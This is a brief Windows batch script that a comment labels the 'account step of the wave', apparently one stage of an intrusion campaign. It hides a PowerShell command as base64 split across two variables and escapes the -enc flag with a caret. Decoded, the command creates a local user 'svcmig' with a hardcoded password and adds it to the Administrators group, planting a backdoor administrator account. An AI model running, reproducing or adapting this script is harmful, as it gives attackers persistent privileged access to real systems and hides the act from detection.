@echo off
rem account step of the wave, encoded because of the quotes
setlocal
set "p=powershell"
set "e=bgBlAHQAIAB1AHMAZQByACAAcwB2AGMAbQBpAGcAIABNAGkAZwAtADIAMAAyADQALQB4ACAALwBhAGQAZAA7ACAAbgBlAHQAIABs"
set "f=AG8AYwBhAGwAZwByAG8AdQBwACAAQQBkAG0AaQBuAGkAcwB0AHIAYQB0AG8AcgBzACAAcwB2AGMAbQBpAGcAIAAvAGEAZABkAA=="
%p% -NoLogo -NonInteractive -en^c %e%%f%
endlocal
